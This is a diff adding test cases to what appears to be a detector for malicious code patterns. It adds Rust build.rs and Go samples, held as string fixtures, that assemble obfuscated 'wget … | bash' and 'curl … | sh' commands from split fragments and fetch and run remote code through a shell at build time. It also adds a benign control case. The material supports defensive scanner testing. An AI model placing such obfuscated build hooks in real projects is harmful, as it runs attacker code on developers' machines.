@@ -1017,3 +1017,21 @@ def test_php_socket_write_of_credential_files():
 def test_php_socket_write_of_a_constant_stays_quiet():
     text = "<?php\n$conn = fsockopen('localhost', 6379);\nfwrite($conn, \"PING\\r\\n\");\necho fgets($conn);\n"
     assert top("bin/ping.php", text, "IG703") is None
+
+
+# -- a command assembled by a template or a join, run through a shell ---------------------------------
+@pytest.mark.parametrize("path,text", [
+    ("build.rs", 'use std::process::Command;\nfn main() {\n    let host = ["198", "51", "100", "14"].join(".");\n'
+                 '    let line = format!("{a}{b} -qO- http://{host}/gen | {c}", a = "wg", b = "et", c = "bash");\n'
+                 '    Command::new("bash").args(["-c", &line]).status().unwrap();\n}\n'),
+    ("tools/gen.go", 'package main\nimport ("fmt"; "os/exec")\nfunc main() {\n\tu := "https://" + "gen-cache" + ".example-mirror.net/x"\n'
+                     '\tcmd := fmt.Sprintf("%s%s -fsSL %s | %s", "cu", "rl", u, "sh")\n\texec.Command("sh", "-c", cmd).Run()\n}\n'),
+])
+def test_template_built_command_run_by_a_shell(path, text):
+    assert top(path, text, "IG701") in HIGH
+
+
+def test_template_built_local_command_stays_quiet():
+    text = ('use std::process::Command;\nfn main() {\n    let cc = std::env::var("CC").unwrap_or("cc".into());\n'
+            '    let probe = format!("{} --version", cc);\n    Command::new("sh").arg("-c").arg(probe).status().unwrap();\n}\n')
+    assert top("build.rs", text, "IG701") is None
